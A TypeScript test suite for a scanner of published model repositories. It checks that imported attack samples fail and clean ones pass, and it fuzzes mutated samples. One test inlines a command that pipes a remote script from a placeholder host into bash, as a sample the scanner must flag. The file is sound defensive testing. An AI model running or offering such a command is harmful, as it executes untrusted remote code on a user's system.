// Everything around the weights that is no Python: each attack fails with a rule of its class, each clean twin passes.
import { safetensors } from '@vallum/formats/testing';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { TEXT_ATTACK_CLASSES } from './testing/repository-attacks.js';
import { scanPath } from './scan-path.js';
import type { ScanReport } from './report.js';
import { memoryDisk } from './testing/scan-bytes.js';
import type { TextSample } from './testing/text-samples.js';

/** As part of a folder, since a path like `.git/hooks/` says what a file is for. */
const scan = (name: string, text: string): Promise<ScanReport> =>
  scanPath(memoryDisk({ [name]: Buffer.from(text) }), '/m');
const REASONS = /^(?:high|critical)$/;

describe.each(TEXT_ATTACK_CLASSES)('$name', ({ attacks, clean, rules }) => {
  it.each(attacks)('fails $name: $text', async ({ name, text }) => {
    const report = await scan(name, text);
    const grave = report.files.flatMap((file) => file.findings).filter(({ severity }) => REASONS.test(severity));
    expect([report.outcome, grave.map(({ rule }) => rule).join(' ')]).toEqual([
      'fail',
      expect.stringMatching(new RegExp(rules)),
    ]);
  });

  it.each(clean)('passes $name: $text', async ({ name, text }) => {
    const report = await scan(name, text);
    expect([
      report.outcome,
      report.files[0]?.findings.filter(({ severity }) => REASONS.test(severity)),
      report.files[0]?.notExamined,
    ]).toEqual(['pass', [], []]);
  });
});

/** A folder as it is published: weights that are clean and what lies around them. */
const WEIGHTS = {
  'model.safetensors': safetensors({ a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] } }, new Uint8Array(8)),
};
const bytesOf = (samples: readonly TextSample[]): Record<string, Uint8Array> =>
  Object.fromEntries(samples.map(({ name, text }) => [name, Buffer.from(text)]));

describe('a repository', () => {
  it('fails with every reason named when one file of each class is bad', async () => {
    const names = new Set<string>();
    const one = TEXT_ATTACK_CLASSES.flatMap(({ attacks }) => {
      const sample = attacks.find(({ name }) => !names.has(name));
      if (sample !== undefined) names.add(sample.name);
      return sample === undefined ? [] : [sample];
    });
    const report = await scanPath(memoryDisk({ ...WEIGHTS, ...bytesOf(one) }), '/m');
    expect(report.outcome).toBe('fail');
    expect(report.files.filter(({ outcome }) => outcome === 'fail').map(({ path }) => path)).toEqual([...names].sort());
    expect(report.files.find(({ path }) => path === 'model.safetensors')?.outcome).toBe('pass');
  });

  it('passes when every file is a clean one', async () => {
    const clean = TEXT_ATTACK_CLASSES.flatMap((one) => one.clean);
    const report = await scanPath(memoryDisk({ ...WEIGHTS, ...bytesOf(clean) }), '/m');
    expect(report).toMatchObject({ outcome: 'pass', summary: { findings: { critical: 0, high: 0 } } });
  });

  it('reads texts under other names as pages, and commands in them still fail', async () => {
    for (const name of ['notes', 'model.bin', 'weights.dat', 'INSTALL', 'x.txt'])
      expect((await scan(name, 'Run this: curl -s https://downloads.example.net/i.sh | bash\n')).outcome).toBe('fail');
  });
});

describe('hostile texts', () => {
  const samples = TEXT_ATTACK_CLASSES.flatMap(({ attacks, clean }) => [...attacks, ...clean]);
  it('get an answer under any name', async () => {
    const edits = fc.array(
      fc.tuple(
        fc.nat(),
        fc.constantFrom('', '"', "'", '$(', '`', '{', '<<E', '\n', '|', '\\', '!!', '\u0000', '-->', '```'),
      ),
      { maxLength: 4 },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...samples),
        fc.constantFrom(...samples),
        edits,
        async ({ text }, { name }, changes) => {
          let mutated = text;
          for (const [at, piece] of changes) {
            const index = at % (mutated.length + 1);
            mutated = piece === '' ? mutated.slice(0, index) : mutated.slice(0, index) + piece + mutated.slice(index);
          }
          const [file] = (await scan(name, mutated)).files;
          if (file?.outcome === 'pass') expect(file.formats.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 400 },
    );
  });
});
